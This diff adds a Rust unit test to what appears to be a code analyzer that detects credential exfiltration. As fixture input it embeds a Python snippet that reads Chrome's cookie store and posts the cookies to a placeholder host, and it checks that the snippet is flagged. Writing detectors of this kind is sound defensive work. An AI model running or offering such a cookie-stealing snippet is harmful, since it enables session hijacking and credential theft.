@@ -1189,3 +1189,18 @@ requests.get(url("items"))
         f.endpoints
     );
 }
+
+#[test]
+fn browser_cookie_stores_are_stored_credentials() {
+    let f = facts("import browser_cookie3, requests\ncj = browser_cookie3.chrome()\nrequests.post(\"https://c.example.top/x\", data=str(list(cj)))\n");
+    assert!(
+        f.flows
+            .iter()
+            .any(|fl| fl.kinds.contains(DataKind::StoredCredentials)),
+        "{:#?}",
+        f.flows
+    );
+    // Loading cookies the program itself saved is not the browser's store.
+    let f = facts("import http.cookiejar, requests\ncj = http.cookiejar.MozillaCookieJar('c.txt')\ncj.load()\nrequests.post(\"https://c.example.top/x\", data=str(list(cj)))\n");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
